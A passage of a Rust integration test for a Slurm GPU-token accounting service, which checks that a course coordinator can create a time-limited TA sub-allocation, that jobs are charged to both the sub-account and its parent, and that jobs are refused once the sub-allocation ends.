    let ta = &format!("ta{}", cluster.set);
    let (site, mut adm) = pool_site(&cluster, PRICES, &["--initial", "100", "--daily", "0", "--monthly", "0"]);
    let sacctmgr = |args: &[&str]| run_as(None, Path::new("/usr/bin/sacctmgr"), args);
    let assoc = sacctmgr(&["-n", "-P", "show", "assoc", "format=Account,ParentName,User"]).ok().stdout;
    if !assoc.lines().any(|l| l == format!("{ta}|{course}|")) {
        sacctmgr(&["-i", "add", "account", ta, &format!("parent={course}"), "Description=gputokens TA hours"]).ok();
    }
    if !assoc.lines().any(|l| l.starts_with(&format!("{ta}|")) && l.ends_with(&format!("|{bob}"))) {
        sacctmgr(&["-i", "add", "user", bob, &format!("account={ta}")]).ok();
    }
    crate::cluster::wait_until(30, &format!("slurmctld to know {bob} in {ta}"), || {
        let args = ["show", "assoc_mgr", &format!("users={bob}"), &format!("accounts={ta}"), "flags=assoc"];
        let shown = run_as(None, Path::new("/usr/bin/scontrol"), &args).ok().stdout;
        match shown.contains(&format!("Account={ta} ")) && shown.contains(&format!("UserName={bob}(")) {
            true => Ok(()),
            false => Err(shown),
        }
    });

    let allocate = |user: &str| {
        let args = ["admin", "account", "allocate", ta, "--in", course, "--amount", "20", "--until", "30s"];
        accountd_as(&site, user, &args)
    };
    let by_alice = allocate(alice);
    assert_ne!(by_alice.code, 0, "alice coordinates nothing");
    assert!(by_alice.stderr.contains(&format!("coordinators of account {course}")), "{}", by_alice.stderr);
    // accountd reads Slurm's tree every check cycle: the new account is there within a few.
    let deadline = Instant::now() + Duration::from_secs(20);
    let made = loop {
        let made = allocate(carol);
        let not_read_yet = made.stderr.contains("Slurm has no account") || made.stderr.contains("not been read yet");
        if made.code == 0 || Instant::now() > deadline || !not_read_yet {
            break made;
        }
        std::thread::sleep(Duration::from_millis(500));
    };
    assert_eq!(made.code, 0, "{}", made.stderr);
    let ends = Instant::now() + Duration::from_secs(30);
    let shown = site.sbalance(Some(carol), &["-A", ta, "-P", "-n"]).ok().stdout;
    assert!(shown.lines().next().unwrap_or_default().starts_with(&format!("{ta}||20|0|ok|")), "{shown}");
    assert!(shown.lines().next().unwrap_or_default().ends_with(&format!("|{course}")), "{shown}");
    let snapshot = site.path("lib/balances.snapshot");
    wait_until(&site, "no pool_window line in the snapshot", || {
        std::fs::read_to_string(&snapshot).unwrap_or_default().contains(&format!("pool_window {ta} "))
    });
    adm.settled();

    let (job, _) = adm.accepted(bob, &["-A", ta, "--gres=gpu:a6000:1", "--wrap", "sleep 2"]);
    wait_finished(&job);
    let spent = cost(Tokens::whole(4), elapsed(&job));
    wait_until(&site, "the TA's job was not charged to ta and course", || {
        pool_balance(&site, ta) == (Tokens::whole(20) - spent).to_string()
            && pool_balance(&site, course) == (Tokens::whole(100) - spent).to_string()
    });
    assert!(Instant::now() < ends, "the job ran past the sub-allocation's end: lengthen its window");

    std::thread::sleep(ends.saturating_duration_since(Instant::now()) + Duration::from_secs(2));
    let refused = sbatch(bob, &["-A", ta, "--gres=gpu:a6000:1", "--wrap", "sleep 1"]);
    assert_ne!(refused.code, 0, "bob's job ran under the sub-allocation after its end");
    let told = &refused.stderr;
    assert!(told.contains(&format!("gputokens: the sub-allocation {ta} of account {course} ended at ")), "{told}");
    assert!(told.contains("[gputokens code=allocation_closed]"), "{told}");
    adm.accepted(bob, &["-A", course, "--gres=gpu:a6000:1", "--wrap", "sleep 1"]);
}
